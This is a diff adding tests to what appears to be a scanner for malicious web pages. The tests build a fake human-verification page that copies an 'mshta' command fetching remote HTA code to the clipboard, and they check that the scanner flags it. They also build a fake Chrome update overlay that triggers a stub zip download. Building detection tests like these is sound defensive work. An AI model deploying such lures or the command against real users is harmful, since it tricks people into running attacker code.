@@ -240,6 +240,53 @@ describe('browser engine: interaction and linked page (real Chromium)', function
     assert.ok(!widget.result.signals.some((s) => s.id === 'credential-password'), JSON.stringify(widget.result.signals.map((s) => s.id)));
   });
 
+  it('a fake human check in a frame that covers a hacked page: the check is clicked in the frame, its clipboard write recorded, the frame after the click analysed', async () => {
+    const command = 'mshta https://verify-cdn.test/v.hta # Cloudflare Verification ID: 4417';
+    routes.set('/check', html(`<!doctype html><title>Verification</title><body style="margin:0;font-family:sans-serif">
+      <div style="margin:120px auto;width:320px;border:1px solid #ccc;padding:18px">
+        <p>Verify you are human by completing the action below.</p>
+        <div id="cb" style="display:flex;gap:10px;align-items:center;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #999"></span> I'm not a robot</div>
+        <div id="steps" hidden><h3>Verification steps</h3><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>
+      </div>
+      <script>
+        document.getElementById('cb').addEventListener('click', function () {
+          var t = document.createElement('textarea'); t.value = ${JSON.stringify(command)}; document.body.appendChild(t); t.select();
+          document.execCommand('copy'); t.remove();
+          document.getElementById('steps').hidden = false;
+          document.getElementById('cb').insertAdjacentHTML('afterend', '<p>Complete these verification steps to continue reading the article you opened on the recipe site and every other page of it.</p>');
+        });
+      </script>`));
+    routes.set('/2025/10/apple-crumble', html(`<!doctype html><title>Grandma's apple crumble</title><style>iframe{position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff}</style>
+      <body><article><h1>Grandma's apple crumble</h1><p>${'Peel the apples and cut them into chunks. '.repeat(30)}</p></article>
+      <iframe src="${at('verify-cdn.test', '/check')}"></iframe>`));
+    const { input, result } = await scan(at('recipes-blog.test', '/2025/10/apple-crumble'));
+    assert.deepEqual(input.clipboardWrites, [command], JSON.stringify(result.capture?.interaction));
+    assert.match(result.capture?.interaction?.actions.join(' ') ?? '', /not a robot/);
+    assert.equal(input.afterInteraction?.url, at('verify-cdn.test', '/check'));
+    assert.match(input.afterInteraction?.html ?? '', /Verification steps/);
+    assert.equal(result.verdict, 'malicious', JSON.stringify(result.decidedBy));
+    assert.ok(result.categories.includes('clickfix'), JSON.stringify(result.categories));
+  });
+
+  it('a fake browser update in a frame over a blog: its "Update Chrome" button is pressed and the file it hands to the page is in the capture', async () => {
+    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 0)]);
+    routes.set('/v3/Chrome.Update.zip', (_req, res) => {
+      res.writeHead(200, { 'content-type': 'application/zip' });
+      res.end(zip);
+    });
+    routes.set('/v3/overlay', html(`<!doctype html><title>Update Chrome</title><body style="margin:0">
+      <div style="margin:100px auto;width:420px;text-align:center"><h2>Your version of Chrome is out of date</h2><p>This page cannot be displayed until you update your browser.</p>
+      <button id="u" style="padding:12px 40px">Update Chrome</button></div>
+      <script>document.getElementById('u').onclick = function () { parent.postMessage({ t: 'dl', u: location.origin + '/v3/Chrome.Update.zip' }, '*'); };</script>`));
+    routes.set('/2024/10/dahlias', html(`<!doctype html><title>Overwintering dahlias</title><body><article><h1>Overwintering dahlias</h1><p>${'Lift the tubers after the first frost. '.repeat(30)}</p></article>
+      <script>var f = document.createElement('iframe'); f.src = ${JSON.stringify(at('cdn-update.test', '/v3/overlay'))}; f.style = 'position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff'; document.body.appendChild(f);
+      addEventListener('message', function (e) { if (e.data && e.data.t === 'dl') { var a = document.createElement('a'); a.href = e.data.u; a.download = ''; document.body.appendChild(a); a.click(); } });</script>`));
+    const { result } = await scan(at('garden-blog.test', '/2024/10/dahlias'));
+    assert.deepEqual(result.capture?.interaction?.actions, ['click:Update Chrome'], JSON.stringify(result.capture?.interaction));
+    const download = result.capture?.downloads.find((d) => d.url.endsWith('/v3/Chrome.Update.zip'));
+    assert.equal(download?.magic, 'zip', JSON.stringify(result.capture?.downloads));
+  });
+
   it('leaves ordinary pages alone: a login form, a long article, a page with a plain button, an identifier-first login — no click, nothing followed', async () => {
     let clicked = 0;
     routes.set('/clicked', (_req, res) => {
